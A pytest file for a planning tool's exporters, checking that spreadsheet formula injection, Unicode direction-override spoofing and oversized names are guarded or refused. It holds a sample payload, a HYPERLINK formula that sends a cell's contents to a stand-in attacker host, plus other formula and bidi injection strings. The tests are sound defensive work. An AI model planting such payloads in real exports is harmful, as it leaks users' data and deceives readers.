"""Names and free text that would turn a plan against its readers.

* A formula hidden behind a character the documents drop (U+FFFE, U+FFFF) is guarded once
  the character is gone, in CSV and XLSX; XLSX marks the cell as typed with a quote, so that
  it stays text after F2 + Enter.
* Every name shown in documents has a limit (docs/limits.md); longer ones are refused with
  their file and line, by `check` and by the commands that read responses.
* Direction controls (U+202E reverses the text after it) are refused in names and isolated
  wherever free text reaches a document: md, html, json, csv, xlsx and docx.
"""

from __future__ import annotations

import csv
import html
import io
import json
import zipfile
from pathlib import Path

import pytest
from conftest import REPO, Cli, Write
from openpyxl import load_workbook
from plan_fixtures import load_catalogue, make_inputs, make_result, needs_response

from s3engine.core.limits import MAX_NAME_LENGTH, MAX_ORGANISATION_LENGTH
from s3engine.export import FORMATS, render_all
from s3engine.export.safety import isolate, spreadsheet_cell
from s3engine.plan.model import Plan
from s3engine.plan.recommend import build_plan
from s3engine.responses.files import read_response

EXAMPLE = sorted((REPO / "examples" / "responses" / "AT31").glob("*.yaml"))[0]
DATA = REPO / "examples" / "data" / "eurostat"
LINK = '=HYPERLINK("http://evil.example/?x="&C2,"Open full plan")'
RLO, PDF, FSI, PDI = "\u202e", "\u202c", "\u2068", "\u2069"


def _plan(tmp_path: Path, names: dict[str, str], comment: str) -> Plan:
    responses = [
        needs_response("ITC4", "industry", ["access_to_finance"], comment=comment, number=1),
        needs_response("ITC4", "government", ["access_to_finance"], comment="plain", number=2),
    ]
    result = make_result(names=names)
    return build_plan(result, load_catalogue(tmp_path), make_inputs(responses), lang="en")


def _cells(files: dict[str, bytes]) -> list[str]:
    cells = []
    for name in ("plan-scores.csv", "plan-recommendations.csv"):
        text = files[name].decode("utf-8-sig")
        dialect = csv.Sniffer().sniff(text.splitlines()[0], delimiters=",;")
        cells += [c for row in csv.reader(io.StringIO(text), dialect) for c in row]
    return cells


@pytest.mark.parametrize("hidden", ["\ufffe", "\uffff", "\ufffe\uffff", " ", "\u200b"])
def test_a_formula_behind_a_dropped_or_invisible_character_is_guarded(
    tmp_path: Path, hidden: str
) -> None:
    plan = _plan(tmp_path, {"ITC4": hidden + LINK}, comment=hidden + "=1+1")
    files = render_all(plan, ["csv", "xlsx"])
    cells = _cells(files)
    guarded = [c for c in cells if c.lstrip("' \u200b").startswith("=HYPERLINK")]
    assert guarded, "the region's name is in the CSV files"
    for cell in guarded:
        assert cell.startswith("'"), cell
        assert "\ufffe" not in cell and "\uffff" not in cell
    book = load_workbook(io.BytesIO(files["plan.xlsx"]))
    texts = [c for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "s"]
    starts = ("=HYPERLINK", "=1+1")
    risky = [c for c in texts if str(c.value).lstrip("' \u200b").startswith(starts)]
    assert {c.parent.title for c in risky} >= {"Regions", "Comments"}
    for cell in risky:
        assert str(cell.value).startswith("'") and cell.quotePrefix, cell.coordinate
    assert not any(c.data_type == "f" for sheet in book for row in sheet.iter_rows() for c in row)


def test_spreadsheet_cells_are_guarded_after_they_are_cleaned() -> None:
    assert spreadsheet_cell("\ufffe=SUM(A1)") == "'=SUM(A1)"
    assert spreadsheet_cell("\u200b\u00a0@cmd") == "'\u200b\u00a0@cmd"
    assert spreadsheet_cell("\uff1d1+1") == "'\uff1d1+1"  # a full-width equals sign
    assert spreadsheet_cell("Lombardia") == "Lombardia"
    assert spreadsheet_cell(12.5) == 12.5


def _response(tmp_path: Path, **respondent: str) -> Path:
    data = read_response(EXAMPLE).response.to_data()
    data["respondent"].update(respondent)
    path = tmp_path / "responses" / "r.json"
    path.parent.mkdir(exist_ok=True)
    path.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    return path


def test_a_region_name_over_the_limit_is_refused_with_its_place(cli: Cli, tmp_path: Path) -> None:
    """A 100,000-character name made a 1,088-page DOCX; now it never reaches a document."""
    path = _response(tmp_path, region_name="Oberösterreich " * 7000)
    check = cli("check", path)
    assert check.code == 1
    assert f"{path}:1:" in check.out
    assert f"respondent.region_name: a name has at most {MAX_NAME_LENGTH} characters" in check.out
    assert "this one has 105,000" in check.out
    score = cli("score", path.parent, EXAMPLE.parent, "--data", DATA)
    assert score.code == 1
    assert f"{path}:1:" in score.err and "respondent.region_name: a name has at most" in score.err
    assert "Oberösterreich" in score.out  # the other responses are scored
    out = tmp_path / "plans"
    args = ("--data", DATA, "--out", out, "--format", "html", "--sensitivity", "0")
    run = cli("plan", path.parent, EXAMPLE.parent, *args)
    assert run.code == 1 and "respondent.region_name: a name has at most" in run.err
    assert len((out / "plan.html").read_bytes()) < 200_000


def test_an_organisation_over_the_limit_is_refused(cli: Cli, tmp_path: Path) -> None:
    path = _response(tmp_path, organisation="x" * (MAX_ORGANISATION_LENGTH + 1))
    run = cli("check", path)
    assert run.code == 1
    assert f"organisation: a name has at most {MAX_ORGANISATION_LENGTH} characters" in run.out


def test_a_region_name_in_a_questionnaire_list_has_the_same_limit(cli: Cli, write: Write) -> None:
    long_name = "N" * (MAX_NAME_LENGTH + 1)
    path = write(
        "q.yaml",
        f"""\
        id: pilot
        version: "1"
        title: Pilot
        languages: [en]
        default_language: en
        profile:
          regions:
            - {{code: AT31, name: Oberösterreich}}
            - {{code: AT32, name: {long_name}}}
        sections:
          - id: main
            title: Main
            questions:
              - {{id: ok, type: yes_no, text: "Fine?"}}
        """,
    )
    run = cli("check", path)
    assert run.code == 1
    assert f"{path}:9:" in run.out and "profile.regions[1].name: a name has at most" in run.out


@pytest.mark.parametrize("control", [RLO, "\u202d", "\u2067", "\u200f"])
def test_direction_controls_are_refused_in_names(cli: Cli, tmp_path: Path, control: str) -> None:
    """'exe.txt (ITC4)' with U+202E in front read '(4CTI) txt.exe' in every document."""
    path = _response(tmp_path, region_name=f"{control}exe.txt")
    run = cli("check", path)
    assert run.code == 1
    refused = "respondent.region_name: a name may not hold the invisible direction control"
    assert f"{refused} U+{ord(control):04X}" in run.out
    assert control not in run.output
    score = cli("score", path.parent, EXAMPLE.parent, "--data", DATA)
    assert score.code == 1 and control not in score.output


def _bidi(text: str) -> tuple[bool, list[int]]:
    """Whether every direction control of `text` is inside an isolate that is closed again,
    and the positions at which an override or embedding is in force (Unicode's rules: a PDF
    closes the last embedding, a PDI closes its isolate and every embedding inside it)."""
    stack: list[str] = []
    active: list[int] = []
    contained = True
    for index, ch in enumerate(text):
        if ch in "\u2066\u2067\u2068":
            stack.append("i")
        elif ch == PDI and "i" in stack:
            while stack.pop() != "i":
                pass
        elif ch in "\u202a\u202b\u202d\u202e":
            contained = contained and "i" in stack
            stack.append("e")
        elif ch == PDF and stack and stack[-1] == "e":
            stack.pop()
        elif "e" in stack:
            active.append(index)
    return contained and not stack, active


def _texts(files: dict[str, bytes]) -> dict[str, str]:
    """The text of every document (the XML parts of DOCX and XLSX, references resolved)."""
    out: dict[str, str] = {}
    for name, content in files.items():
        if name.endswith((".docx", ".xlsx")):
            with zipfile.ZipFile(io.BytesIO(content)) as archive:
                for part in archive.namelist():
                    if part.endswith(".xml"):
                        xml = archive.read(part).decode("utf-8")  # &#8238; is U+202E
                        out[f"{name}:{part}"] = html.unescape(xml)
        else:
            out[name] = content.decode("utf-8-sig")
    return out


def test_direction_controls_in_free_text_are_isolated_in_every_format(tmp_path: Path) -> None:
    """Names with direction controls are refused at input; free text keeps them, and every
    document lays it out on its own, so that it cannot reverse the region code beside it."""
    comment = f"{RLO}the strategy is fine{PDI}{PDF}{PDF} trailing"
    names = {"ITC4": f"{RLO}exe.txt", "AT31": f"\u2067Ober{PDI}{PDI}{RLO}österreich"}
    plan = _plan(tmp_path, names, comment)
    files = render_all(plan, FORMATS)
    texts = _texts(files)
    for name in ("plan.md", "plan.html", "plan-scores.csv", "plan-recommendations.csv"):
        assert RLO in texts[name], name
    assert any(RLO in text for part, text in texts.items() if part.startswith("plan.docx:"))
    assert any(RLO in text for part, text in texts.items() if part.startswith("plan.xlsx:"))
    for name, text in texts.items():
        contained, active = _bidi(text)
        assert contained, name
        for code in ("ITC4", "AT31"):  # no region code is ever read backwards
            start = text.find(code)
            while start >= 0:
                assert start not in active, (name, text[max(0, start - 40) : start + 10])
                start = text.find(code, start + 1)
    assert "<bdi>" in texts["plan.html"]
    raw_json = files["plan.json"].decode("utf-8")
    assert RLO not in raw_json and "\\u202e" in raw_json
    data = json.loads(raw_json)
    assert data["regions"][1]["name"] == f"{RLO}exe.txt"  # the data itself is unchanged
    assert isolate("plain") == "plain"
